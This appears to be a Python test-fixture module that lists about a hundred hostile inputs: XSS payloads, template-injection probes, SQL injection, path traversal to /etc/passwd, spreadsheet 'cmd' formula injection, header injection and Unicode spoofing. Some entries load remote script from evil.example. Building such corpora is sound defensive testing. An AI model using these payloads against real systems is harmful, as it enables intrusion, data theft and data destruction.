"""Texts that want to be more than text: a hundred of them, each betraying itself if it runs."""

import itertools

#: What a text does if it runs: a page that was opened looks for this mark.
MARK = "window.hostile=1"

_SCRIPTS = [
    f"<script>{MARK}</script>",
    f"<SCRIPT>{MARK}</SCRIPT>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<script src=data:text/javascript,{MARK}></script>",
    "<script src=//evil.example/x.js></script>",
    f"</script><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f"--><script>{MARK}</script><!--",
    f"]]><script>{MARK}</script>",
    f"<![CDATA[<script>{MARK}</script>]]>",
    f"<noscript><p title='</noscript><script>{MARK}</script>'>",
    f"<style></style><script>{MARK}</script>",
    f"<xmp><script>{MARK}</script></xmp>",
    f"<template><script>{MARK}</script></template>",
]
_ELEMENTS = [
    f"<img src=x onerror={MARK}>",
    f'<img src="x" onerror="{MARK}">',
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{MARK}'><text y=20>x</text></a></svg>",
    f"<math><mi xlink:href='javascript:{MARK}'>x</mi></math>",
    f"<body onload={MARK}>",
    f"<iframe src='javascript:{MARK}'></iframe>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f"<object data='javascript:{MARK}'></object>",
    f"<embed src='javascript:{MARK}'>",
    f"<video><source onerror={MARK}></video>",
    f"<audio src=x onerror={MARK}>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<select autofocus onfocus={MARK}>",
    f"<marquee onstart={MARK}>x</marquee>",
    f"<form action='javascript:{MARK}'><button>x</button></form>",
    f"<button formaction='javascript:{MARK}'>x</button>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
    "<img src=//evil.example/pixel.gif>",
]
_BREAKOUTS = [
    f'" onmouseover="{MARK}" x="',
    f"' onmouseover='{MARK}' x='",
    f'" autofocus onfocus="{MARK}',
    f"' autofocus onfocus='{MARK}",
    f'"><script>{MARK}</script>',
    f"'><script>{MARK}</script>",
    f"` onmouseover=`{MARK}`",
    f"&quot; onmouseover=&quot;{MARK}&quot;",
    f"&#34; onmouseover=&#34;{MARK}&#34;",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f'\\" onmouseover=\\"{MARK}\\"',
    f"\\x3cscript\\x3e{MARK}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.hostile%3D1%3C%2Fscript%3E",
    f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
]
_MARKDOWN = [
    f"[click](javascript:{MARK})",
    f"[click](JaVaScRiPt:{MARK})",
    f"[click](java\tscript:{MARK})",
    f"[click](&#106;avascript:{MARK})",
    f"[click](vbscript:{MARK})",
    f"[click](data:text/html,<script>{MARK}</script>)",
    f"![x](javascript:{MARK})",
    f'![x](x "onerror={MARK}")',
    f'[x](https://a.example "\\" onmouseover=\\"{MARK}")',
    f"<javascript:{MARK}>",
    f"[a]: javascript:{MARK}\n\n[a]",
    f"`<script>{MARK}</script>`",
    f"```\n<script>{MARK}</script>\n```",
    f"    <script>{MARK}</script>",
    "[x](//evil.example)",
]
_TEMPLATES = [
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.items() }}",
    "{{ request.environ }}",
    "{{ self.__init__.__globals__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %(sum)s %s %d",
    "{0.__class__} {name!r}",
]
_CHARACTERS = [
    "\u202eevil txt.exe",
    "\u2066abc\u2069\u202e",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\u0000nul".replace("\u0000", ""),
    "line\rone\nBcc: all@evil.example",
    "line\r\nSet-Cookie: hostile=1",
    "\u2028window.hostile=1\u2029",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 3,
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 3,
    "ﷺ" * 5,
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊",
    "٠١٢٣٤٥",
    "İı ẞß ŉ",
    "＜script＞window.hostile=1＜/script＞",
    "ʼ ՚ ＇ ″ ＂",
]
_REST = [
    "'; DROP TABLE ashar_project; --",
    '" OR 1=1 --',
    "1' UNION SELECT password FROM ashar_user --",
    "NEAR(a b) AND * OR ^ :",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x" * 60 + "\u00ad" + "y" * 60,
]

#: All of them, a hundred and some.
TEXTS = tuple(
    itertools.chain(_SCRIPTS, _ELEMENTS, _BREAKOUTS, _MARKDOWN, _TEMPLATES, _CHARACTERS, _REST)
)
